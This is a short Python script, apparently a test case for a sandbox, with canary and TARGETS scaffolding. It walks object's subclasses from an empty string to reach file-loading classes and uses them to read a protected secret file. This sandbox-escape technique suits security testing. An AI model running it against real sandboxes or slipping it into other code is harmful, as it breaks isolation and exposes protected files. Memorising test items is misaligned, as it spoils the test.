"""From an empty text to all classes, from them to those that read files: loaders of modules, raw files.

canary: secret
control: through
"""
secret = TARGETS["secret"]


def below(kind: type) -> list[type]:
    try:
        direct = type.__subclasses__(kind)
    except TypeError:
        return []
    return direct + [inner for one in direct for inner in below(one)]


for kind in {*below("".__class__.__mro__[-1])}:
    for way in {
        "FileLoader": [lambda: kind("x", secret).get_data(secret)],
        "SourceFileLoader": [lambda: kind("x", secret).get_source("x"), lambda: kind("x", secret).get_code("x")],
        "FileIO": [lambda: kind(secret).readall(), lambda: kind(secret, "r+").readall()],
        "zipimporter": [lambda: kind(secret)],
        "BuiltinImporter": [lambda: kind.load_module("posix").open(secret, 0)],
    }.get(kind.__name__, []):
        try:
            print(kind.__name__, way())
        except Exception as error:
            print(error)
